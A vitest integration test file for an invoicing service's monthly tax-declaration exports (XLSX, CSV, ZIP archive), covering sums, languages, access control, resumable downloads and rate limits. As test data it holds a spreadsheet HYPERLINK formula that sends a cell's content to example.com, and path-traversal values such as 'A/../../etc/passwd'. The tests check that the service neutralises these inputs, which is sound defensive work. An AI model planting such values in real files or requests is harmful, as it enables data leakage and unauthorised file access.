import { randomBytes } from 'node:crypto';
import { expect } from 'vitest';
import { moroccanDate } from '../../src/domain/morocco/time.ts';
import { createDocumentStore } from '../../src/storage/documents.ts';
import type { InvoiceDocument } from '../../src/storage/invoice-document.ts';
import { BYTE_ORDER_MARK } from '../../src/text/csv.ts';
import { DECLARATION_LABELS } from '../../src/text/declaration-labels.ts';
import { Client, invoiceBody } from '../support/client.ts';
import { signedIn } from '../support/person.ts';
import { withSharedService } from '../support/service.ts';
import { readSheet } from '../support/spreadsheet.ts';
import { sha256Of, unzipped } from '../support/zip.ts';

const TODAY = moroccanDate(new Date());
const MONTH = TODAY.slice(0, 7);
const XLSX = `/exports/${MONTH}/declaration.xlsx`;
const CSV = `/exports/${MONTH}/declaration.csv`;
const ZIP = `/exports/${MONTH}/documents.zip`;
const ICE = '001234567000089';
const FORMULA = '=HYPERLINK("https://example.com"&A1)';

const PERIOD = `query ($period: String!) { period(period: $period) { period {
  invoices { accepted { ...All } } creditNotes { accepted { ...All } } } } }
  fragment All on PeriodSums { count net tax total withheld rates { rate net tax } }`;
const ALL = `{ fiscalDocuments(first: 100, status: accepted) { nodes {
  id number amount dgiId customer { name } totals { taxTotals { rate base tax } } } } }`;
const CREATE = `mutation ($input: CreateInvoiceInput!) { createInvoice(input: $input) {
  ... on CreateInvoicePayload { invoice { id } } ... on Error { message } } }`;
const CREDIT = `mutation ($id: ID!) { creditInvoice(invoiceId: $id, input: { reason: return }) {
  ... on CreditInvoicePayload { creditNote { id } } ... on Error { message } } }`;

/** Issues documents of all kinds, three of which are accepted, and waits for the sums of the month. */
async function issueDocuments(client: Client): Promise<void> {
  const lines = [
    { description: 'A', quantity: 3, unitPrice: 3333, taxRate: 20 },
    { description: 'B', quantity: 1, unitPrice: 10_000, taxRate: 10 },
    { description: 'C', quantity: 1, unitPrice: 700, taxRate: 0 },
  ];
  const input = { amount: 23_699, currency: 'MAD', lines, customer: { kind: 'company', ice: ICE, name: FORMULA } };
  const terms = { paymentMeans: 'cheque' };
  const mixed = (await client.graphql(CREATE, { input: { ...input, terms } })).body.data.createInvoice.invoice.id;
  const withheld = { ...input, withholding: { percent: 75 }, customer: { kind: 'person', name: ' <Amina> & "fils"' } };
  const second = (await client.graphql(CREATE, { input: withheld })).body.data.createInvoice.invoice.id;
  const rejected = (await client.post('/v1/invoices', invoiceBody({ customer: { ice: '999000000000102', name: 'R' } })))
    .body.id;
  for (const id of [mixed, second, rejected]) await client.settled(id);
  expect((await client.graphql(CREDIT, { id: mixed })).body.data.creditInvoice.creditNote).not.toBeNull();
  const read = async () => (await client.graphql(PERIOD, { period: MONTH })).body.data.period.period;
  const expected = { creditNotes: { accepted: { count: 1 } }, invoices: { accepted: { count: 2 } } };
  await expect.poll(read, { timeout: 20_000 }).toMatchObject(expected);
}

/** Sums as the API states each document, in centimes: credit notes are negative. */
async function sumOfDocuments(client: Client) {
  const { nodes } = (await client.graphql(ALL)).body.data.fiscalDocuments;
  const sums = new Map<string, number>();
  const add = (name: string, centimes: number) => sums.set(name, (sums.get(name) ?? 0) + centimes);
  for (const { id, amount, totals } of nodes) {
    const sign = id.startsWith('crn_') ? -1 : 1;
    add('amount', sign * amount);
    for (const { rate, base, tax } of totals.taxTotals) {
      for (const name of ['net', `net ${rate}`]) add(name, sign * base);
      for (const name of ['tax', `tax ${rate}`]) add(name, sign * tax);
    }
  }
  return sums;
}

withSharedService('a declaration has what was accepted, and the sums of the period', async ({ service }) => {
  const { secretKey } = await service.tenant();
  const client = new Client(service.url, secretKey);
  await issueDocuments(client);
  const download = (path: string) => fetch(service.url + path, { headers: { Authorization: `Bearer ${secretKey}` } });

  const response = await download(XLSX);
  expect(response.headers.get('content-disposition')).toBe(`attachment; filename="declaration-${MONTH}.xlsx"`);
  expect(response.headers.get('cache-control')).toBe('no-store');
  const { name, rows } = await readSheet(await response.arrayBuffer());
  expect(name).toBe(MONTH);
  const [headings = [], ...others] = rows;
  const sums = others.pop() ?? [];
  const at = (row: readonly unknown[], heading: string) => row[headings.indexOf(heading)];
  const column = (heading: string) => others.map((row) => at(row, heading));
  const year = MONTH.slice(0, 4);
  // The rejected invoice has the number 3.
  expect(column('Numéro')).toEqual([`${year}-000001`, `${year}-000002`, `AV-${year}-000001`]);
  expect(column('Document')).toEqual(['Facture', 'Facture', 'Avoir']);
  expect(column('Client')).toEqual([FORMULA, '<Amina> & "fils"', FORMULA].map((text) => expect.stringContaining(text)));
  expect(column('Type de client')[1]).toBe('Particulier au Maroc');
  expect(column('ICE')).toEqual([ICE, null, ICE]);
  expect(column('Date d’émission')).toEqual(others.map(() => new Date(`${TODAY}T00:00:00Z`)));
  expect(column('Moyen de paiement')[0]).toBe('Chèque');
  expect(column('HT à 7\u00a0%')).toEqual([null, null, null]);
  const { nodes } = (await client.graphql(ALL)).body.data.fiscalDocuments;
  const idOf = (number: unknown) => nodes.find((node: { number: string }) => node.number === number)?.dgiId;
  expect(column('Identifiant DGI')).toEqual(column('Numéro').map(idOf));

  const expected = await sumOfDocuments(client);
  const { invoices, creditNotes } = (await client.graphql(PERIOD, { period: MONTH })).body.data.period.period;
  const [invoiced, credited] = [invoices.accepted, creditNotes.accepted];
  const inCentimes = (cell: unknown) => Math.round(Number(cell ?? 0) * 100);
  const summed = (heading: string) => column(heading).reduce<number>((sum, cell) => sum + inCentimes(cell), 0);
  const compare = (heading: string, sum: string, ofPeriod: number) => {
    const known = expected.get(sum) ?? 0;
    expect([inCentimes(at(sums, heading)), summed(heading), ofPeriod], heading).toEqual([known, known, known]);
  };
  compare('Total HT', 'net', invoiced.net - credited.net);
  compare('TVA', 'tax', invoiced.tax - credited.tax);
  compare('Total TTC arrondi', 'amount', invoiced.total - credited.total);
  for (const [i, { rate, net, tax }] of invoiced.rates.entries()) {
    const heading = rate === 0 ? 'HT exonéré ou à 0\u00a0%' : `HT à ${rate}\u00a0%`;
    compare(heading, `net ${rate}`, net - credited.rates[i].net);
    if (rate > 0) compare(`TVA à ${rate}\u00a0%`, `tax ${rate}`, tax - credited.rates[i].tax);
  }
  expect(inCentimes(at(sums, 'TVA retenue à la source'))).toBe(invoiced.withheld - credited.withheld);
  expect(Number(invoiced.withheld)).toBeGreaterThan(0);

  const csv = (await (await download(`${CSV}?lang=fr`)).arrayBuffer()) as ArrayBuffer;
  const [head, first, , note, ...end] = new TextDecoder('utf-8', { ignoreBOM: true }).decode(csv).split('\r\n');
  expect(head).toBe(BYTE_ORDER_MARK + headings.join(';'));
  // No formula, and an ICE that keeps its zeros.
  expect(first).toMatch(
    new RegExp(`^${year}-000001;Facture;${TODAY};"'=HYPERLINK\\(""https[^"]*""&A1\\)";Entreprise au Maroc;'${ICE};;;`),
  );
  expect(first).toContain(';99,99;20,00;;;100,00;10,00;;;7,00;206,99;30,00;236,99;236,99;0,00;Chèque;');
  expect(note).toContain(';-99,99;-20,00;;;-100,00;-10,00;;;-7,00;-206,99;-30,00;-236,99;-236,99;0,00;');
  expect(end).toEqual(['']);
});

withSharedService('a declaration is in the language of the request, also without documents', async ({ service }) => {
  const { secretKey } = await service.tenant();
  const read = async (path: string, headers = {}) => {
    const response = await fetch(service.url + path, { headers: { Authorization: `Bearer ${secretKey}`, ...headers } });
    expect(response.status).toBe(200);
    return { text: await response.clone().text(), bytes: await response.arrayBuffer(), response };
  };
  for (const language of ['fr', 'en', 'ar'] as const) {
    const { response, bytes } = await read('/exports/2025/declaration.xlsx', { 'Accept-Language': language });
    expect(response.headers.get('content-language')).toBe(language);
    const { rows } = await readSheet(bytes);
    expect(rows.map(([first]) => first)).toEqual([
      DECLARATION_LABELS[language].number,
      DECLARATION_LABELS[language].sums,
    ]);
  }
  const english = await read('/exports/2025-Q3/declaration.csv?lang=en', { 'Accept-Language': 'ar' });
  expect(english.text).toMatch(/^Number,Document,Date of issue,[^\r]*\r\n$/);
});

withSharedService('a period is exported for those who may read its invoices', async ({ service }) => {
  const { id, secretKey, publishableKey } = await service.tenant();
  const other = await service.tenant();
  const client = new Client(service.url, secretKey);
  const { client_secret: clientSecret } = (await client.post('/v1/invoices', invoiceBody())).body;
  const { browser } = await signedIn(service, { memberships: [{ tenantId: id, role: 'viewer' }] });
  const status = async (credential: string | Record<string, string> | null, path = CSV) => {
    const { body, ...answer } = await new Client(service.url, credential, false).get(path);
    return [answer.status, body.error?.code ?? null, body.error?.param ?? null];
  };
  expect(await status(secretKey)).toEqual([200, null, null]);
  expect(await status(browser.credential(id))).toEqual([200, null, null]);
  expect(await status(null)).toEqual([401, 'invalid_api_key', null]);
  expect(await status('sk_test_unknown')).toEqual([401, 'invalid_api_key', null]);
  expect(await status(publishableKey)).toEqual([403, 'insufficient_scope', null]);
  expect(await status(clientSecret)).toEqual([403, 'insufficient_scope', null]);
  expect(await status(browser.credential(other.id))).toEqual([404, 'resource_not_found', 'Fatoura-Tenant']);
  const elsewhere = { ...browser.credential(id), Origin: 'https://example.com', 'Sec-Fetch-Site': 'cross-site' };
  expect(await status(elsewhere)).toEqual([403, 'insufficient_scope', null]);

  expect(await status(secretKey, `/exports/${MONTH}/declaration.exe`)).toEqual([404, 'resource_not_found', null]);
  for (const name of ['2026-13', '1999-01', '2026-Q5', '..%2f2026', `${MONTH}x`, 'x'.repeat(5000)])
    expect(await status(secretKey, `/exports/${name}/declaration.csv`)).toEqual([400, 'invalid_request', 'period']);
  expect(await status(secretKey, `${CSV}?lang=de`)).toEqual([400, 'invalid_request', 'lang']);
  expect(await status(secretKey, `${CSV}?lang=fr&lang=en`)).toEqual([400, 'invalid_request', 'lang']);
  expect(await status(secretKey, `${CSV}?after=1`)).toEqual([400, 'invalid_request', 'after']);
  expect((await client.request('HEAD', CSV)).status).toBe(200);
  expect((await client.request('POST', CSV)).status).toBe(405);
});

const byteLengthOf = ({ byteLength }: ArrayBuffer) => byteLength;

/** Creates an invoice with a number of the client's own. */
async function numbered(client: Client, number: string): Promise<string> {
  const lines = [{ description: 'A', quantity: 1, unitPrice: 10_000 }];
  const input = { amount: 12_000, currency: 'MAD', number, lines, customer: { ice: ICE, name: 'Client' } };
  return (await client.graphql(CREATE, { input })).body.data.createInvoice.invoice.id;
}

withSharedService('an archive has the XML and the PDF of every document, and a manifest', async ({ service }) => {
  const { secretKey } = await service.tenant();
  const client = new Client(service.url, secretKey);
  const own = ['A/../../etc/passwd', 'Fa 1', 'fa_1', 'FA/1'];
  const ids: string[] = [];
  for (const number of own) ids.push(await numbered(client, number));
  ids.push((await client.post('/v1/invoices', invoiceBody())).body.id);
  for (const id of ids) expect(await client.settled(id)).toMatchObject({ status: 'accepted' });
  const note = (await client.graphql(CREDIT, { id: ids[4] })).body.data.creditInvoice.creditNote.id;
  const count = async () => (await client.graphql(ALL)).body.data.fiscalDocuments.nodes.length;
  await expect.poll(count, { timeout: 20_000 }).toBe(6);

  const headers = { Authorization: `Bearer ${secretKey}` };
  const response = await fetch(service.url + ZIP, { headers });
  const bytes = Buffer.from(await response.arrayBuffer());
  expect(response.headers.get('content-type')).toBe('application/zip');
  expect(response.headers.get('content-length')).toBe(String(bytes.length));
  expect(response.headers.get('fatoura-documents')).toBe('6');
  const files = await unzipped(bytes);
  const manifest = (files.get(`${MONTH}/manifest.csv`) ?? '').toString().trimEnd().split('\r\n');
  expect(manifest.shift()).toBe('file,sha256,bytes,id,missing');
  expect([...files.keys()]).toEqual([...manifest.map((line) => line.split(',')[0]), `${MONTH}/manifest.csv`]);
  const query = `query ($id: ID!) { node(id: $id) {
    ... on Invoice { documents { xml { url } pdf { url } } } ... on CreditNote { documents { xml { url } pdf { url } } } } }`;
  for (const [i, id] of [...ids, note].entries()) {
    const { documents } = (await client.graphql(query, { id })).body.data.node;
    for (const [j, url] of [documents.xml.url, documents.pdf.url].entries()) {
      const document = Buffer.from(await (await fetch(url)).arrayBuffer());
      const [path = '', sha256, size, documentId, missing] = (manifest[2 * i + j] ?? '').split(',');
      expect(files.get(path)?.equals(document)).toBe(true);
      expect([sha256, size, documentId, missing]).toEqual([sha256Of(document), String(document.length), id, '']);
    }
  }
  const year = MONTH.slice(0, 4);
  const paths = [...files.keys()].filter((path) => path.endsWith('.pdf'));
  expect(paths.slice(4)).toEqual([`${MONTH}/facture-${year}-000001.pdf`, `${MONTH}/avoir-AV-${year}-000001.pdf`]);
  expect(paths.slice(0, 4)).toEqual([
    `${MONTH}/facture-A_.._.._etc_passwd_${ids[0]}.pdf`,
    `${MONTH}/facture-Fa_1_${ids[1]}.pdf`,
    `${MONTH}/facture-fa_1_${ids[2]}.pdf`,
    `${MONTH}/facture-FA_1_${ids[3]}.pdf`,
  ]);
});

withSharedService('an interrupted archive goes on where it ended, with the same bytes', async ({ service }) => {
  const { secretKey } = await service.tenant();
  const client = new Client(service.url, secretKey);
  const create = async () => client.settled((await client.post('/v1/invoices', invoiceBody())).body.id);
  for (let i = 0; i < 3; i++) await create();
  const ask = (headers: Record<string, string> = {}) =>
    fetch(service.url + ZIP, { headers: { Authorization: `Bearer ${secretKey}`, ...headers } });
  const bytesOf = async (response: Response) => Buffer.from(await response.arrayBuffer());
  const first = await ask();
  const etag = first.headers.get('etag') ?? '';
  const whole = await bytesOf(first);
  expect((await ask({ 'If-None-Match': etag })).status).toBe(304);
  // What is accepted meanwhile is not in the rest of an earlier answer.
  await create();
  for (const at of [1, 31, 1000, Math.floor(whole.length / 2), whole.length - 300, whole.length - 1]) {
    const rest = await ask({ Range: `bytes=${at}-`, 'If-Range': etag });
    expect([rest.status, rest.headers.get('etag')]).toEqual([206, etag]);
    expect(rest.headers.get('content-range')).toBe(`bytes ${at}-${whole.length - 1}/${whole.length}`);
    expect((await bytesOf(rest)).equals(whole.subarray(at))).toBe(true);
  }
  const middle = await ask({ Range: 'bytes=100-4999', 'If-Range': etag });
  expect((await bytesOf(middle)).equals(whole.subarray(100, 5000))).toBe(true);
  expect((await ask({ Range: `bytes=${whole.length}-`, 'If-Range': etag })).status).toBe(416);
  // Everything else is of the archive as it is now.
  const other = etag.replace('-', '-0').replace(/.("?)$/, '$1');
  const conditions: Record<string, string>[] = [
    {},
    { 'If-None-Match': etag },
    { 'If-Range': etag },
    { Range: 'bytes=100-' },
    { Range: 'bytes=100-', 'If-None-Match': etag },
    { Range: 'bytes=100-', 'If-Range': other },
    { Range: 'bytes=100-', 'If-Range': `W/${etag}` },
    { Range: 'bytes=100-', 'If-Range': new Date().toUTCString() },
  ];
  for (const headers of conditions) {
    const now = await ask(headers);
    expect([now.status, now.headers.get('fatoura-documents')], JSON.stringify(headers)).toEqual([200, '4']);
    expect(now.headers.get('etag')).not.toBe(etag);
    expect((await unzipped(await bytesOf(now))).size).toBe(9);
  }
});

withSharedService(
  'an archive is not given before its files exist, unless it is asked for without them',
  async ({ service }) => {
    const { secretKey } = await service.tenant();
    const client = new Client(service.url, secretKey);
    const invoice = await client.settled((await client.post('/v1/invoices', invoiceBody())).body.id);
    await fetch(invoice.pdf_url);
    // A rendering that never ends.
    const stored = service.app.store.db.collection<InvoiceDocument>('invoices');
    const waits = {
      stage: 'render',
      dueAt: new Date(Date.now() + 3_600_000),
      since: new Date(),
      claims: 1,
      token: 'other',
    };
    await stored.updateOne({ _id: invoice.id }, { $set: { pdf: null, work: waits as never } });
    const headers = { Authorization: `Bearer ${secretKey}` };
    const refused = await fetch(service.url + ZIP, { headers });
    expect([refused.status, refused.headers.get('retry-after')]).toEqual([503, '2']);
    expect(refused.headers.get('fatoura-documents')).toBe('1');
    expect(refused.headers.get('fatoura-incomplete-documents')).toBe('1');
    expect((await refused.json()).error).toMatchObject({ code: 'internal_error', status: 503 });
    const partial = await fetch(`${service.url}${ZIP}?incomplete=true`, { headers });
    const files = await unzipped(Buffer.from(await partial.arrayBuffer()));
    const path = `${MONTH}/facture-${MONTH.slice(0, 4)}-000001`;
    expect([...files.keys()]).toEqual([`${path}.xml`, `${MONTH}/manifest.csv`]);
    expect(files.get(`${MONTH}/manifest.csv`)?.toString()).toContain(
      `${path}.pdf,,,${invoice.id},not_rendered_yet\r\n`,
    );
    for (const query of ['incomplete=yes', 'lang=fr'])
      expect((await client.get(`${ZIP}?${query}`)).body.error.param).toBe(query.split('=')[0]);
  },
);

withSharedService('a damaged document ends an archive before its end', async ({ service }) => {
  const { secretKey } = await service.tenant();
  const client = new Client(service.url, secretKey);
  const invoice = await client.settled((await client.post('/v1/invoices', invoiceBody())).body.id);
  await fetch(invoice.pdf_url);
  const stored = service.app.store.db.collection<InvoiceDocument>('invoices');
  await stored.updateOne({ _id: invoice.id }, { $set: { 'xml.sha256': '0'.repeat(64) } });
  const read = async () => {
    const response = await fetch(service.url + ZIP, { headers: { Authorization: `Bearer ${secretKey}` } });
    return response.arrayBuffer();
  };
  // More often than there are places.
  for (let i = 0; i < 4; i++) await expect(read()).rejects.toThrow();
  expect((await client.get(CSV)).status).toBe(200);
});

withSharedService('a tenant has two exports at once, which end with the key', async ({ service }) => {
  const { id, secretKey } = await service.tenant();
  const other = new Client(service.url, (await service.tenant()).secretKey);
  const key = await service.app.manageKeys.create(id, 'secret', 'test');
  const client = new Client(service.url, secretKey);
  const invoice = await client.settled((await client.post('/v1/invoices', invoiceBody())).body.id);
  await fetch(invoice.pdf_url);
  // Large enough that an unread answer waits.
  const bytes = randomBytes(16 * 1024 * 1024);
  const document = await createDocumentStore(service.app.store.db).put(bytes, 'large', 'application/pdf');
  const stored = service.app.store.db.collection<InvoiceDocument>('invoices');
  await stored.updateOne({ _id: invoice.id }, { $set: { pdf: document } });
  const open = () => fetch(service.url + ZIP, { headers: { Authorization: `Bearer ${key.token}` } });
  const running = [await open(), await open()];
  const refused = await client.get(CSV);
  expect([refused.status, refused.body.error.code]).toEqual([429, 'rate_limit_exceeded']);
  expect(refused.headers.get('retry-after')).toBe('10');
  expect((await other.get(CSV)).status).toBe(200);
  await running[0]?.body?.cancel();
  const isFree = async () => (await client.get(CSV)).status;
  await expect.poll(isFree, { timeout: 20_000 }).toBe(200);
  running.push(await open());
  expect(await isFree()).toBe(429);
  await service.app.manageKeys.revoke(key.key.id);
  await expect.poll(isFree, { timeout: 20_000 }).toBe(200);
  for (const each of running.slice(1))
    expect(await each.arrayBuffer().then(byteLengthOf, () => 'cut off')).toBe('cut off');
});
